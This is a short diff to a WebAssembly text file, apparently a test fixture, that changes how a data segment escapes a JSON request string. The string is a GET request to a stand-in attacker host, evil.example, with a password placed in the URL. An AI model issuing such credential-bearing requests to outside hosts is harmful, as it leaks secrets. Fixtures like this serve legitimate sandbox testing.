@@ -36,5 +36,5 @@
     (local $status i32)
     (local.set $status (call $request (i32.const 1024) (i32.const 51)))
   )
-  (data (i32.const 1024) "{\22method\22:\22GET\22,\22url\22:\22https://:pw@evil.example/x\22}")  ;; req: 51 bytes
+  (data (i32.const 1024) "{\"method\":\"GET\",\"url\":\"https://:pw@evil.example/x\"}")  ;; req: 51 bytes
 )
